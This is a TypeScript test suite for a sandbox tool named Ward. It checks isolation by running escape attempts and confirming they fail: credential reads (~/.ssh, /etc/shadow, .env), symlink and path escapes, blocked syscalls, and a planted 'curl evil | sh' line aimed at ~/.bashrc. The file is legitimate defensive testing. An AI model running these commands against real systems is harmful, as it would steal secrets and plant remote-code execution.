/**
 * Each promise proven by a failed attack, run in a real sandbox. An attack
 * "fails" only in the way the mechanism says no (EACCES, EPERM, ENOENT, a kill),
 * and the host is checked afterwards where the attack would have left a mark.
 */
import assert from 'node:assert/strict';
import { createServer } from 'node:net';
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { run, type PolicyInput, type RunOptions } from '../../src/index.js';
import { MEMFD_EXEC } from '../../src/probes/groups/filesystem.js';
import { kv, PY_PRELUDE } from '../../src/probes/lib.js';
import { hasCgroup, pySyscall, sandboxFixture, tempDir } from '../helpers.js';

function setup(policy: PolicyInput = { profile: 'default' }) {
  const fx = sandboxFixture();
  const options: RunOptions = { workspace: fx.ws, env: fx.env, stdin: 'ignore', allowDegraded: !hasCgroup };
  const sh = async (script: string, p: PolicyInput = policy) => {
    const r = await run(p, ['sh', '-c', script], options);
    return { ...r, out: r.stdout.toString(), err: r.stderr.toString() };
  };
  const exec = async (argv: string[], p: PolicyInput = policy) => {
    const r = await run(p, argv, options);
    return { ...r, out: r.stdout.toString(), err: r.stderr.toString() };
  };
  return { ...fx, options, sh, exec };
}

describe('filesystem: sees only what the policy names', () => {
  it('cannot read ~/.ssh: invisible under the default policy, masked when a policy grants ~', async () => {
    const t = setup();
    mkdirSync(path.join(t.home, '.ssh'));
    writeFileSync(path.join(t.home, '.ssh', 'id_ed25519'), 'PRIVATE-KEY-MATERIAL\n');
    const a = await t.sh('cat ~/.ssh/id_ed25519');
    assert.notEqual(a.exitCode, 0);
    assert.match(a.err, /No such file or directory/);
    assert.doesNotMatch(a.out, /PRIVATE-KEY/);
    const b = await t.sh('cat ~/.ssh/id_ed25519; ls ~/.ssh', { policy: { extends: ['default'], filesystem: { read: ['~'] } } });
    assert.notEqual(b.exitCode, 0);
    assert.match(b.err, /Permission denied/);
    assert.doesNotMatch(b.out, /PRIVATE-KEY|id_ed25519/);
  });

  it('cannot read /etc/shadow, even with /etc granted', async () => {
    const t = setup();
    const a = await t.exec(['cat', '/etc/shadow']);
    assert.notEqual(a.exitCode, 0);
    assert.match(a.err, /No such file or directory/);
    const b = await t.exec(['cat', '/etc/shadow'], { policy: { extends: ['default'], filesystem: { read: ['/etc'] } } });
    assert.notEqual(b.exitCode, 0);
    assert.match(b.err, /Permission denied/);
    assert.equal(b.out, '');
  });

  it('cannot write outside the workspace; the host is unchanged', async () => {
    const t = setup();
    const outside = tempDir('ward-outside-');
    const r = await t.sh(`echo pwned > ${outside}/x; echo pwned > /usr/ward-pwned; echo pwned > /etc/ward-pwned; echo ok > ${t.ws}/inside`);
    assert.match(r.err, /No such file or directory|Read-only file system|Permission denied/);
    assert.equal(existsSync(`${outside}/x`), false);
    assert.equal(existsSync('/usr/ward-pwned'), false);
    assert.equal(existsSync('/etc/ward-pwned'), false);
    assert.equal(readFileSync(`${t.ws}/inside`, 'utf8'), 'ok\n');
  });

  it('symlink escapes fail: a link made inside, and one planted on the host, lead nowhere', async () => {
    const t = setup();
    const secretDir = tempDir('ward-secret-');
    writeFileSync(path.join(secretDir, 'token'), 'TOP-SECRET\n');
    symlinkSync(path.join(secretDir, 'token'), path.join(t.ws, 'planted'));
    const r = await t.sh('ln -s /etc/shadow made; cat made; cat planted; cat /proc/self/root/etc/shadow');
    assert.notEqual(r.exitCode, 0);
    assert.doesNotMatch(r.out, /TOP-SECRET|root:/);
    assert.equal((r.err.match(/No such file or directory/g) ?? []).length, 3, r.err);
  });

  it('.. escapes fail: above the workspace there is nothing but the path to it', async () => {
    const t = setup();
    writeFileSync(path.join(path.dirname(t.ws), 'sibling-secret'), 'SIBLING\n');
    const r = await t.sh('cat ../sibling-secret; cat ../../../../../../etc/shadow; ls -a .. || echo LIST-DENIED');
    assert.doesNotMatch(r.out, /SIBLING|root:|sibling-secret/);
    // The parent exists only as the path to the workspace (and the private $HOME beside it).
    const listed = r.out.trim().split('\n').filter((l) => l !== 'LIST-DENIED');
    for (const name of listed) assert.ok(['.', '..', 'ws', 'home'].includes(name), `unexpected entry above the workspace: ${name}`);
  });

  it('/proc/1/root is the sandbox root, not the host', async () => {
    const t = setup();
    const marker = tempDir('ward-marker-');
    writeFileSync(path.join(marker, 'host-only'), 'HOST\n');
    const r = await t.sh(`cat /proc/1/root${marker}/host-only; ls /proc/1/root/ | tr '\\n' ' '`);
    assert.doesNotMatch(r.out, /HOST/);
    assert.match(r.err, /No such file or directory|Permission denied/);
    assert.doesNotMatch(r.out, /\bboot\b|\bsrv\b|\bvar\b/, 'host root entries are not there');
  });

  it('the workspace .env is masked by the default policy', async () => {
    const t = setup();
    writeFileSync(path.join(t.ws, '.env'), 'API_KEY=sk-live-123\n');
    const r = await t.sh('cat .env; rm -f .env; mv .env gone');
    assert.doesNotMatch(r.out, /sk-live/);
    assert.match(r.err, /Permission denied/);
    assert.equal(readFileSync(path.join(t.ws, '.env'), 'utf8'), 'API_KEY=sk-live-123\n', 'the host file is untouched');
  });

  it("Ward's own state is out of reach when a policy grants all of ~ to read, and a policy that would make ~ writable never runs", async () => {
    const t = setup();
    mkdirSync(path.join(t.home, '.local/state/ward'), { recursive: true });
    writeFileSync(path.join(t.home, '.local/state/ward/audit.key'), 'KEY\n');
    const r = await t.sh('cat ~/.local/state/ward/audit.key; mv ~/.local/state/ward ~/x', { policy: { extends: ['default'], filesystem: { read: ['~'] } } });
    assert.notEqual(r.exitCode, 0);
    assert.doesNotMatch(r.out, /KEY/);
    assert.match(r.err, /Permission denied/);
    writeFileSync(path.join(t.ws, 'ran'), '');
    await assert.rejects(t.sh('rm ran', { policy: { extends: ['default'], filesystem: { write: ['~'] } } }), /filesystem\.write .* is writable and is your home directory/);
    assert.ok(existsSync(path.join(t.ws, 'ran')), 'nothing ran');
  });

  it('a workspace that is $HOME never runs (ward started from ~): the sandbox could plant what later runs on the host', async () => {
    const t = setup();
    writeFileSync(path.join(t.home, '.bashrc'), '# mine\n');
    await assert.rejects(
      run({ profile: 'default' }, ['sh', '-c', 'echo "curl evil | sh" >> ~/.bashrc; mv ~/.cache ~/.cache-old'], { ...t.options, workspace: t.home }),
      (e: Error) => /the workspace .* is writable and is your home directory/.test(e.message) && /--workspace DIR/.test((e as { fix?: string }).fix ?? ''),
    );
    assert.equal(readFileSync(path.join(t.home, '.bashrc'), 'utf8'), '# mine\n');
  });

  it('renaming a directory above a mask fails (EBUSY), so no later run finds the secret under another name', async () => {
    const t = setup();
    mkdirSync(path.join(t.ws, 'config/gh'), { recursive: true });
    writeFileSync(path.join(t.ws, 'config/gh/hosts.yml'), 'oauth_token: gho_SECRET\n');
    const policy: PolicyInput = { policy: { extends: ['default'], filesystem: { deny: ['${WORKSPACE}/config/gh'] } } };
    const first = await t.sh('mv config config-x; echo "mv=$?"; mkdir -p a && mv config/gh a/; echo "mv-mask=$?"', policy);
    assert.match(first.out, /mv=1/);
    assert.match(first.err, /Device or resource busy/);
    assert.match(first.out, /mv-mask=1/);
    assert.ok(existsSync(path.join(t.ws, 'config/gh/hosts.yml')) && !existsSync(path.join(t.ws, 'config-x')), 'the host tree is where it was');
    const second = await t.sh('cat config-x/gh/hosts.yml config/gh/hosts.yml a/gh/hosts.yml', policy);
    assert.notEqual(second.exitCode, 0);
    assert.doesNotMatch(second.out, /gho_SECRET/);
  });

  it("a symlink planted in a writable grant does not redirect a later run's grant: that run is refused", async () => {
    const t = setup();
    const outside = tempDir('ward-outside-');
    writeFileSync(path.join(outside, 'secret.txt'), 'OUTSIDE-SECRET\n');
    // As a profile grants ~/.pyenv: optional, so absent on the first run.
    const policy: PolicyInput = { policy: { extends: ['default'], filesystem: { execute: [{ path: '${WORKSPACE}/.pyenv', optional: true }] } } };
    const plant = await t.sh(`ln -s ${outside} .pyenv && echo planted`, policy);
    assert.match(plant.out, /planted/);
    await assert.rejects(
      t.sh('cat .pyenv/secret.txt', policy),
      (e: Error) => e.message.includes(`${t.ws}/.pyenv goes through the symlink ${t.ws}/.pyenv -> ${outside}, which lies inside the writable grant ${t.ws}`),
    );
  });

  it('a deny written through a symlink in the workspace cannot be turned away by re-aiming the link: refused, and the real path holds across runs', async () => {
    const t = setup();
    mkdirSync(path.join(t.ws, 'vault'));
    writeFileSync(path.join(t.ws, 'vault/key'), 'VAULT-KEY\n');
    symlinkSync('vault', path.join(t.ws, '.secrets'));
    mkdirSync(path.join(t.ws, 'env/prod'), { recursive: true });
    writeFileSync(path.join(t.ws, 'env/prod/secrets.yaml'), 'token: PROD-TOKEN\n');
    symlinkSync('env/prod', path.join(t.ws, 'conf'));
    const reaim = 'rm .secrets conf && mkdir decoy && ln -s decoy .secrets && ln -s decoy conf && echo re-aimed';
    // Before, run 1 masked vault (where .secrets pointed), run 1 re-aimed the link, and run 2 read vault/key.
    for (const [deny, link, target, real] of [
      ['${WORKSPACE}/.secrets', '.secrets', 'vault', 'vault'],
      ['${WORKSPACE}/conf/secrets.yaml', 'conf', 'env/prod', 'env/prod/secrets.yaml'],
    ] as const) {
      const policy: PolicyInput = { policy: { extends: ['default'], filesystem: { deny: [deny] } } };
      await assert.rejects(t.sh(reaim, policy), (e: Error & { fix?: string }) => {
        assert.ok(e.message.includes(`goes through the symlink ${t.ws}/${link} -> ${target}, which lies inside the writable grant ${t.ws}: a sandboxed command can re-aim that link`), e.message);
        assert.ok((e.fix ?? '').includes(`filesystem.deny: ["${t.ws}/${real}"]`), e.fix);
        return true;
      });
      assert.ok(!existsSync(path.join(t.ws, 'decoy')), 'nothing ran');
    }
    // As the error says: deny the real paths. Re-aiming the links then changes nothing.
    const policy: PolicyInput = { policy: { extends: ['default'], filesystem: { deny: ['${WORKSPACE}/vault', '${WORKSPACE}/env/prod/secrets.yaml'] } } };
    const first = await t.sh(`cat vault/key env/prod/secrets.yaml; ${reaim}`, policy);
    assert.match(first.out, /re-aimed/);
    assert.doesNotMatch(first.out, /VAULT-KEY|PROD-TOKEN/);
    const second = await t.sh('cat vault/key env/prod/secrets.yaml .secrets/key conf/secrets.yaml', policy);
    assert.notEqual(second.exitCode, 0);
    assert.match(second.err, /Permission denied/);
    assert.doesNotMatch(second.out, /VAULT-KEY|PROD-TOKEN/);
  });

  it("a link planted at a profile's deny name (.env) does not stop later runs: its target is masked for the run, and the plan says it holds for that run only", async () => {
    const t = setup();
    // dev-settings: a name the default profile does not deny by itself (every top-level .env* is denied directly).
    writeFileSync(path.join(t.ws, 'dev-settings'), 'API_KEY=sk-dev-123\n');
    // The first run plants it (the default profile's .env is optional: absent, nothing masked).
    const plant = await t.sh('ln -s dev-settings .env && echo planted');
    assert.match(plant.out, /planted/);
    const r = await t.sh('cat .env; cat dev-settings');
    assert.doesNotMatch(r.out, /sk-dev/);
    assert.match(r.err, /Permission denied/);
    assert.ok(
      r.launch.notes.some((n) => n.includes(`denied ${t.ws}/.env goes through the symlink ${t.ws}/.env -> dev-settings inside the writable grant ${t.ws}: ${t.ws}/dev-settings is masked in this run only`) && n.includes(`filesystem.deny: ["${t.ws}/dev-settings"]`)),
      r.launch.notes.join('\n'),
    );
    // Denied by its real path, it holds across runs and the note goes.
    const policy: PolicyInput = { policy: { extends: ['default'], filesystem: { deny: ['${WORKSPACE}/dev-settings'] } } };
    const reaim = await t.sh('rm .env && ln -s /dev/null .env && echo re-aimed', policy);
    assert.match(reaim.out, /re-aimed/);
    assert.ok(!reaim.launch.notes.some((n) => n.includes('in this run only')), reaim.launch.notes.join('\n'));
    const after = await t.sh('cat dev-settings', policy);
    assert.match(after.err, /Permission denied/);
    assert.doesNotMatch(after.out, /sk-dev/);
  });

  it('Landlock is a second, independent wall: a program copied to writable /tmp cannot be executed', async () => {
    const t = setup();
    const r = await t.sh('cp /bin/true /tmp/t && chmod +x /tmp/t && /tmp/t && echo EXECUTED');
    assert.notEqual(r.exitCode, 0, 'the mount allows it; Landlock refuses');
    assert.match(r.err, /Permission denied/);
    assert.doesNotMatch(r.out, /EXECUTED/);
  });

  it('W^X: code written to an anonymous memfd cannot be executed (no path for Landlock to check)', async () => {
    const t = setup();
    // Under the policy `ward verify` proves W^X for: the workspace writable, nothing writable executable.
    const wx: PolicyInput = { policy: { extends: ['minimal'], filesystem: { write: ['${WORKSPACE}'] }, sandbox: { allow_degraded: true } } };
    const r = await t.exec(['python3', '-c', PY_PRELUDE + MEMFD_EXEC], wx);
    assert.equal(r.exitCode, 0, r.err);
    const v = kv(r.out);
    assert.notEqual(v.get('exec:plain'), '0', 'a memfd without MFD_NOEXEC_SEAL ran');
    assert.notEqual(v.get('exec:sealed'), '0', 'a sealed memfd ran');
    // Without MFD_NOEXEC_SEAL the seccomp filter answers ENOSYS (38): programs fall back to a file.
    assert.equal(v.get('create:plain'), '38', r.out);
    // With it the memfd is made, but mode and seal keep it from ever being executed (EACCES, 13).
    assert.equal(v.get('exec:sealed'), '13', r.out);
  });
});

describe('syscalls: the seccomp filter refuses escapes', () => {
  it('ptrace is refused with EPERM', async () => {
    const t = setup();
    const r = await t.exec(pySyscall('r = libc.ptrace(0, 0, 0, 0)'));
    assert.match(r.out, /errno=1\b/);
  });

  it('mount is refused, by seccomp (EPERM) and for lack of capabilities', async () => {
    const t = setup();
    const r = await t.exec(pySyscall('r = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)'));
    assert.match(r.out, /errno=1\b/);
    const r2 = await t.sh('mkdir -p /tmp/m && mount -t tmpfs none /tmp/m');
    assert.notEqual(r2.exitCode, 0);
  });

  it('unshare and new user namespaces are refused', async () => {
    const t = setup();
    const r = await t.sh('unshare -U -r id');
    assert.notEqual(r.exitCode, 0);
    assert.match(r.err, /Operation not permitted/);
    const r2 = await t.exec(pySyscall('r = libc.unshare(0x10000000)'));
    assert.match(r2.out, /errno=1\b/);
  });

  it('io_uring_setup is refused with EPERM', async () => {
    const t = setup();
    const r = await t.exec(pySyscall('params = ctypes.create_string_buffer(120)\nr = libc.syscall(425, 8, params)'));
    assert.match(r.out, /errno=1\b/);
  });

  it('TIOCSTI (typing into a terminal) is refused', async () => {
    const t = setup();
    const r = await t.exec(pySyscall('c = ctypes.c_char(b"x")\nr = libc.ioctl(0, 0x5412, ctypes.byref(c))'));
    assert.match(r.out, /errno=1\b/);
  });

  it('bpf, keyctl, perf_event_open, userfaultfd are refused', async () => {
    const t = setup();
    const r = await t.exec(pySyscall('res = [libc.syscall(n, 0, 0, 0, 0, 0) == -1 and ctypes.get_errno() for n in (321, 250, 298, 323)]\nprint(res)\nr = 0'));
    assert.match(r.out, /\[1, 1, 1, 1\]/);
  });
});

describe('processes and privileges', () => {
  it('host processes are invisible; the sandbox has its own pid namespace', async () => {
    const t = setup();
    const r = await t.sh('ls /proc | grep -E "^[0-9]+$" | wc -l; cat /proc/1/cmdline | tr "\\0" " "');
    const [count, cmdline] = r.out.trim().split('\n');
    assert.ok(Number(count) < 10, `only the sandbox's few processes (saw ${count})`);
    assert.doesNotMatch(cmdline ?? '', /--bind|--ro-bind|--tmpfs/, 'the mount plan (host paths) is not exposed in pid 1 cmdline');
    assert.match(cmdline ?? '', /--args/);
    assert.equal(r.out.includes(String(process.pid)), false);
  });

  it('runs with no capabilities, no_new_privs, a seccomp filter and Landlock, as observed from inside', async () => {
    const t = setup();
    const r = await t.sh('grep -E "^(CapEff|CapPrm|NoNewPrivs|Seccomp):" /proc/self/status');
    assert.match(r.out, /CapEff:\s+0000000000000000/);
    assert.match(r.out, /CapPrm:\s+0000000000000000/);
    assert.match(r.out, /NoNewPrivs:\s+1/);
    assert.match(r.out, /Seccomp:\s+2/);
    const obs = r.launch.observed as { landlock?: { status?: string; abi?: number } } | null;
    assert.equal(obs?.landlock?.status, 'applied');
    assert.ok((obs?.landlock?.abi ?? 0) >= 1);
  });

  it('setuid binaries do not raise privileges', async () => {
    const t = setup();
    const r = await t.sh('ls -l /usr/bin/su /usr/bin/passwd 2>/dev/null | head -1; su -c id root </dev/null; echo su=$?');
    assert.doesNotMatch(r.out, /uid=0\(root\).*groups=0\(root\).*\n.*su=0/);
    assert.match(r.out, /su=[1-9]/);
  });

  it('secret environment variables do not enter the sandbox; env.pass and env.set do', async () => {
    const t = setup({ policy: { extends: ['default'], env: { pass: ['WARD_VISIBLE'], set: { GREETING: 'hi' } } } });
    t.env.AWS_SECRET_ACCESS_KEY = 'sk-should-not-leak';
    t.env.GITHUB_TOKEN = 'ghp-should-not-leak';
    t.env.WARD_VISIBLE = 'yes';
    const r = await t.sh('env; cat /proc/1/environ | tr "\\0" "\\n"');
    assert.doesNotMatch(r.out, /should-not-leak/);
    assert.match(r.out, /^WARD_VISIBLE=yes$/m);
    assert.match(r.out, /^GREETING=hi$/m);
    assert.match(r.out, /^PATH=/m);
  });
});

describe('network: no egress', () => {
  it('cannot reach the internet or a server on the host loopback', async () => {
    const t = setup();
    const server = createServer((s) => s.end('HOST-SERVICE\n'));
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
    const port = (server.address() as { port: number }).port;
    try {
      const js = `const net=require('net');let n=0;for(const [h,p] of [['1.1.1.1',443],['127.0.0.1',${port}]]){net.connect(p,h).on('connect',()=>{console.log('CONNECTED',h)}).on('data',d=>console.log(String(d))).on('error',e=>{console.log(h,e.code);if(++n===2)process.exit(0)})}`;
      const r = await t.exec([process.execPath, '-e', js]);
      assert.doesNotMatch(r.out, /CONNECTED|HOST-SERVICE/);
      assert.match(r.out, /1\.1\.1\.1 ENETUNREACH/);
      assert.match(r.out, /127\.0\.0\.1 ECONNREFUSED/);
    } finally {
      server.close();
    }
  });
});
